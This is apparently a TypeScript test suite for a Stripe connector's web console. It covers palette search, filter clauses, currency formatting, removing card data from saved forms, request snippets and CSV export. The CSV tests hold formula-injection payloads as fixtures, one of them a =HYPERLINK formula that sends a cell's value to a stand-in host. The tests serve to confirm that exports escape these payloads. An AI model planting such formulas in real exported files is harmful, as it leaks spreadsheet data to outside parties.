/** What the console computes without a browser: search, clauses, amounts, ids, files, what it keeps. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ColumnDescriptor } from '../../shared/schema/columns.ts';
import { defaultColumns } from '../../shared/console/entity/default-columns.ts';
import { completeClause, conditionText, withCondition } from '../../shared/console/entity/filter/clause.ts';
import {
  correctedClause,
  decimalAmount,
  splitAtAnd,
  tidyClause,
} from '../../shared/console/entity/filter/conditions.ts';
import { fieldOfParam } from '../../shared/console/form/field-errors.ts';
import { fieldPaths, matchingFields } from '../../shared/console/form/fields/field-paths.ts';
import { pairsOfText } from '../../shared/console/form/fields/inputs/pair-text.ts';
import { csvField } from '../../shared/console/format/csv.ts';
import { formatRows, formattedRow } from '../../shared/console/format/export.ts';
import { secondsUntilNextMonth } from '../../shared/console/format/time.ts';
import { isAmountName, minorUnits, formatMoney } from '../../shared/console/format/money.ts';
import { withoutSecrets } from '../../shared/console/format/secrets.ts';
import { isIdLike, searchKeys } from '../../shared/console/format/words.ts';
import { paletteItems } from '../../shared/console/shell/palette-items.ts';
import { hashOf, parseHash } from '../../shared/console/state/hash.ts';
import { commandSnippet, curlSnippet, deployedCurlSnippet } from '../../shared/console/form/snippets/shell.ts';
import { workflowSnippet } from '../../shared/console/form/snippets/cloud.ts';
import { parse } from 'yaml';

const OFFER = {
  entities: [
    { name: 'PaymentIntent', operations: ['List', 'Get', 'Create'], idPrefix: 'pi' },
    { name: 'Refund', operations: ['List', 'Get', 'Create'], idPrefix: 're' },
    { name: 'Invoice', operations: ['List', 'Get'], idPrefix: 'in' },
  ],
  actions: [
    { name: 'ConfirmPaymentIntent', title: 'Confirm Payment Intent', entity: 'PaymentIntent', readOnly: false },
    { name: 'PayInvoice', title: 'Pay Invoice', entity: 'Invoice', readOnly: false },
    { name: 'CancelSubscription', title: 'Cancel Subscription', entity: 'Subscription', readOnly: false },
  ],
};

const FIRST: readonly (readonly [text: string, hash: string])[] = [
  ['payment intent', '#/entity/PaymentIntent'],
  ['payment_intent', '#/entity/PaymentIntent'],
  ['PaymentIntent', '#/entity/PaymentIntent'],
  ['/v1/payment_intents', '#/entity/PaymentIntent'],
  ['/v1/payment_intents/pi_3MtwBwLkdIwHu7ix/confirm', '#/action/ConfirmPaymentIntent'],
  ['POST https://api.stripe.com/v1/refunds'.replace('POST ', ''), '#/entity/Refund'],
  ['pi_3MtwBwLkdIwHu7ix', '#/object/PaymentIntent/pi_3MtwBwLkdIwHu7ix'],
  ['pay an invoice', '#/action/PayInvoice'],
  ['refund a payment', '#/entity/Refund/Create'],
  ['refund payment', '#/entity/Refund/Create'],
  ['Cancel a subscription', '#/action/CancelSubscription'],
  ['export invoice', '#/entity/Invoice?export=rows'],
  ['80b3b545-a278-42f2-9351-957ba7c9ef97', '#/operations/80b3b545-a278-42f2-9351-957ba7c9ef97'],
];

for (const [text, hash] of FIRST)
  test(`the palette finds ${text}`, () => assert.equal(paletteItems(text, OFFER, [])[0]?.hash, hash));

test('the palette sets the theme, and opens the documentation where the server has it', () => {
  assert.equal(paletteItems('dark mode', OFFER, [])[0]?.theme, 'dark');
  assert.equal(paletteItems('docs', OFFER, [], true)[0]?.hash, '/docs/');
  assert.equal(paletteItems('filter clause', OFFER, [], true)[0]?.hash, '/docs/reference/filters');
  assert.deepEqual(paletteItems('docs', OFFER, []), []);
});

test('the palette offers the record of what may be an operationId, and of no other word', () => {
  const hashes = ['order-5', 'zzzz'].map((text) => paletteItems(text, OFFER, []).map((item) => item.hash));
  assert.deepEqual(hashes, [['#/operations/order-5'], []]);
});

test('a word with an underscore is not an id', () => {
  assert.equal(isIdLike('payment_intent'), false);
  assert.equal(isIdLike('cus_9s6XKzkNRiz8i3'), true);
  assert.deepEqual(searchKeys('/v1/checkout/sessions'), ['sessionscheckout', 'checkoutsession', 'checkout']);
});

const column = (
  name: string,
  kind: ColumnDescriptor['kind'],
  more: Partial<ColumnDescriptor> = {},
): ColumnDescriptor => ({
  name,
  kind,
  key: false,
  nullable: true,
  readOnly: false,
  filter: 'here',
  sortable: true,
  inRows: true,
  ...more,
});
const COLUMNS = [
  column('Status', 'enum', { enum: ['succeeded', "it's"] }),
  column('Amount', 'integer'),
  column('Email', 'text', { filter: 'stripe' }),
];

test('the first columns always have the time by which a list is sorted', () => {
  const many = ['Id', 'Name', 'Email', 'Number', 'Amount', 'Status', 'Reason', 'Customer', 'Charge', 'Created'];
  const chosen = defaultColumns(
    many.map((name) => column(name, 'text')),
    [],
  );
  assert.deepEqual(chosen, ['Id', 'Name', 'Email', 'Number', 'Amount', 'Status', 'Reason', 'Created']);
});

const COMPLETED: readonly (readonly [clause: string, first: string])[] = [
  ['', 'Email '],
  ['Sta', 'Status '],
  ['Status ', 'Status = '],
  ['Status = ', "Status = 'succeeded' "],
  ["Status = 'succeeded' ", "Status = 'succeeded' AND "],
  ["Status = 'succeeded' AND Am", "Status = 'succeeded' AND Amount "],
  ['Email IS NOT NULL ', 'Email IS NOT NULL AND '],
  ['NOT Sta', 'NOT Status '],
];

for (const [clause, first] of COMPLETED)
  test(`a clause is completed after ${JSON.stringify(clause)}`, () =>
    assert.equal(completeClause(clause, COLUMNS)[0]?.clause, first));

test('a condition quotes texts and leaves numbers', () => {
  const [status, amount] = COLUMNS as [ColumnDescriptor, ColumnDescriptor];
  assert.equal(conditionText(status, '=', "it's"), "Status = 'it''s'");
  assert.equal(conditionText(amount, '>', '1000'), 'Amount > 1000');
  assert.equal(conditionText(status, 'IN', 'a, b'), "Status IN ('a', 'b')");
  assert.equal(conditionText(status, 'IS NULL', ''), 'Status IS NULL');
  assert.equal(withCondition("Id = 'a' or Id = 'b'", 'Amount < 5'), "(Id = 'a' or Id = 'b') AND Amount < 5");
  for (const clause of [' Amount > 1 ', "(Id = 'a' OR Id = 'b')", "Name = 'this OR that'", 'A = 1 OR B = 2) OR (C = 3'])
    assert.equal(withCondition(clause, 'Amount < 5'), `${clause.trim()} AND Amount < 5`);
});

test('amounts have the decimals of their currency', () => {
  // https://docs.stripe.com/currencies
  assert.equal(formatMoney(1500, 'usd'), '$15.00');
  assert.equal(formatMoney(1500, 'jpy'), '¥1,500');
  assert.equal(formatMoney(1500, 'kwd')?.replace(/\s/, ' '), 'KWD 1.500');
  assert.equal(formatMoney(1500, undefined), undefined);
  assert.equal(minorUnits('15.00', 'usd'), 1500);
  assert.equal(minorUnits('15,5', 'usd'), 1550);
  assert.equal(minorUnits('15.5', 'jpy'), undefined);
  assert.ok(isAmountName('AmountReceived') && isAmountName('unit_amount') && isAmountName('Balance'));
  assert.ok(!isAmountName('AmountPercent') && !isAmountName('UnitAmountDecimal') && !isAmountName('Account'));
});

test('what a form keeps has no card data', () => {
  const kept = withoutSecrets({
    Type: 'card',
    Card: { number: '4242424242424242', cvc: '123', exp_month: 12 },
    Note: '4242 4242 4242 4242',
    Items: [{ price: 'price_1', account_number: '1' }],
  });
  assert.deepEqual(kept, { Type: 'card', Card: {}, Items: [{ price: 'price_1' }] });
});

/** What a spreadsheet runs, and what it does not. https://owasp.org/www-community/attacks/CSV_Injection */
const CELLS: readonly (readonly [value: unknown, safe: string, raw: string])[] = [
  ['=1+1', "'=1+1", '=1+1'],
  ['+1+1', "'+1+1", '+1+1'],
  ['-1+1', "'-1+1", '-1+1'],
  ['@SUM(A1)', "'@SUM(A1)", '@SUM(A1)'],
  ['\t=1', "'\t=1", '"\t=1"'],
  ['\r=1', `"'\r=1"`, '"\r=1"'],
  ['\n=1', `"'\n=1"`, '"\n=1"'],
  ['＝1', "'＝1", '＝1'],
  [
    `=HYPERLINK("https://x.example?"&A1,"b")`,
    `"'=HYPERLINK(""https://x.example?""&A1,""b"")"`,
    `"=HYPERLINK(""https://x.example?""&A1,""b"")"`,
  ],
  ['-12.50 USD|calc', "'-12.50 USD|calc", '-12.50 USD|calc'],
  // A number, a text of one, and an amount with its currency: a spreadsheet runs no formula.
  [-1500, '-1500', '-1500'],
  ['-12.5', '-12.5', '-12.5'],
  ['+4915112345678', '+4915112345678', '+4915112345678'],
  ['-12.50 USD', '-12.50 USD', '-12.50 USD'],
  ['a=1', 'a=1', 'a=1'],
  [{ a: '=1' }, '"{""a"":""=1""}"', '"{""a"":""=1""}"'],
  [null, '', ''],
  [false, 'false', 'false'],
];
for (const [value, safe, raw] of CELLS)
  test(`the field of ${JSON.stringify(value)} is no formula unless it is raw`, () => {
    assert.deepEqual([csvField(value), csvField(value, true)], [safe, raw]);
  });

test('files quote fields and contain no formula', () => {
  const rows = [{ Id: 'a', Name: 'x, "y"', Note: '=1+1', Metadata: { a: '1' } }];
  assert.equal(
    formatRows(rows, ['Id', 'Name', 'Note', 'Metadata'], 'csv'),
    `Id,Name,Note,Metadata\r\na,"x, ""y""",'=1+1,"{""a"":""1""}"\r\n`,
  );
  assert.equal(formatRows(rows, ['Id', 'Absent'], 'ndjson'), '{"Id":"a","Absent":null}\n');
  assert.deepEqual(JSON.parse(formatRows(rows, ['Id'], 'json')), [{ Id: 'a' }]);
});

test('addresses keep their segments and parameters', () => {
  const hash = hashOf(['entity', 'Customer'], { filter: "Email = 'a&b'", sort: '' });
  const { segments, params } = parseHash(hash);
  assert.deepEqual(segments, ['entity', 'Customer']);
  assert.deepEqual([...params], [['filter', "Email = 'a&b'"]]);
  assert.deepEqual(parseHash(hashOf(['object', 'Card', 'cus_1/card_1'])).segments, ['object', 'Card', 'cus_1/card_1']);
  assert.deepEqual(parseHash('#/%').segments, ['%']);
});

test('a call as code has a quoted body, and never a token', () => {
  const call = {
    functionName: 'create-entity',
    body: { entity: 'Customer', connectorInputPayload: { Name: "O'Hara", Metadata: { 'a b': ['x', { c: 1 }] } } },
  };
  assert.match(curlSnippet(call, 'http://localhost:8080'), /O'"'"'Hara/);
  assert.match(deployedCurlSnippet(call), /Authorization: Bearer \$\(gcloud auth print-identity-token\)/);
  assert.match(commandSnippet(call, 'Customer.Create'), /^npx stripe-connector call Customer\.Create /);
  const [step] = parse(workflowSnippet(call)) as [{ call_stripe: { args: { body: unknown } } }];
  assert.deepEqual(step.call_stripe.args.body, call.body);
});

test('a clause is shown as the conditions that AND joins, and is corrected where it is from another language', () => {
  assert.deepEqual(splitAtAnd("Status = 'a AND b' AND (Amount > 5 OR Amount < 2)"), [
    "Status = 'a AND b'",
    '(Amount > 5 OR Amount < 2)',
  ]);
  assert.equal(splitAtAnd("Status = 'open' OR Amount > 5"), undefined);
  assert.equal(splitAtAnd("Status = 'open' AND "), undefined);
  assert.equal(tidyClause("  Name  =   'a  b' "), "Name = 'a  b'");
  assert.equal(correctedClause('Status == "open" && Amount > 5'), "Status = 'open' AND Amount > 5");
  assert.equal(correctedClause("Status = 'open'"), undefined);
});

test('pasted pairs are lines or one JSON object', () => {
  assert.deepEqual(pairsOfText('tier=gold\nshop: a=b'), [
    ['tier', 'gold'],
    ['shop', 'a=b'],
  ]);
  assert.deepEqual(pairsOfText('{"tier": "gold", "n": 1}'), [
    ['tier', 'gold'],
    ['n', '1'],
  ]);
  assert.deepEqual(pairsOfText(' url : https://a=b '), [['url', 'https://a=b']]);
  assert.equal(pairsOfText('=gold'), undefined);
  assert.equal(pairsOfText('tier'), undefined);
  assert.equal(pairsOfText('{"tier"'), undefined);
});

test('a field is found at any depth, the nearest match first', () => {
  const text = { type: 'string' };
  const address = { type: 'object', properties: { city: text, country: text } };
  const items = { type: 'array', items: { type: 'object', properties: { price: text } } };
  const fields = fieldPaths({ type: 'object', properties: { Name: text, Address: address, Items: items } });
  assert.deepEqual(
    fields.map(({ path }) => path),
    ['Name', 'Address', 'Address.city', 'Address.country', 'Items', 'Items[0].price'],
  );
  assert.deepEqual(
    matchingFields(fields, 'c').map(({ path }) => path),
    ['Address.city', 'Address.country', 'Items[0].price'],
  );
});

/** Errors of Stripe name a parameter: https://docs.stripe.com/api/errors#errors-param */
test('a parameter of an error is the input of the form', () => {
  const schema = { properties: { Address: {}, PaymentIntentId: {}, Items: {} } };
  assert.equal(fieldOfParam('address[postal_code]', schema), 'Address.postal_code');
  assert.equal(fieldOfParam('items[0][price]', schema), 'Items[0].price');
  assert.equal(fieldOfParam('intent', schema), 'PaymentIntentId');
  assert.equal(fieldOfParam('other', schema), undefined);
});

test('a month of the clock is one of the calendar', () => {
  const after = (from: string): string => {
    const seconds = Date.parse(from) / 1000;
    return new Date((seconds + secondsUntilNextMonth(seconds)) * 1000).toISOString();
  };
  assert.equal(after('2026-11-28T10:00:00Z'), '2026-12-28T10:00:00.000Z');
  assert.equal(after('2027-01-31T00:00:00Z'), '2027-02-28T00:00:00.000Z');
});

test('an export as shown has amounts in the major unit and times in ISO 8601', () => {
  const kinds = new Map([['Created', 'seconds']]);
  assert.deepEqual(formattedRow({ Amount: 12000, Currency: 'usd', Created: 0, Quantity: 2 }, kinds), {
    Amount: '120.00 USD',
    Currency: 'usd',
    Created: '1970-01-01T00:00:00.000Z',
    Quantity: 2,
  });
  assert.equal(formattedRow({ Amount: 120, Currency: 'jpy' }, kinds)['Amount'], '120 JPY');
});

test('a clause that compares an amount with a decimal number is noticed', () => {
  assert.deepEqual(decimalAmount("Status = 'open' AND AmountDue >= 15.50"), {
    condition: 'AmountDue >= 15.50',
    corrected: 'AmountDue >= 1550',
  });
  assert.deepEqual(decimalAmount('PercentOff = 12.5 AND UnitAmount<3.125'), {
    condition: 'UnitAmount<3.125',
    corrected: undefined,
  });
  assert.equal(decimalAmount('Amount > 1550 AND PercentOff = 12.5'), undefined);
});
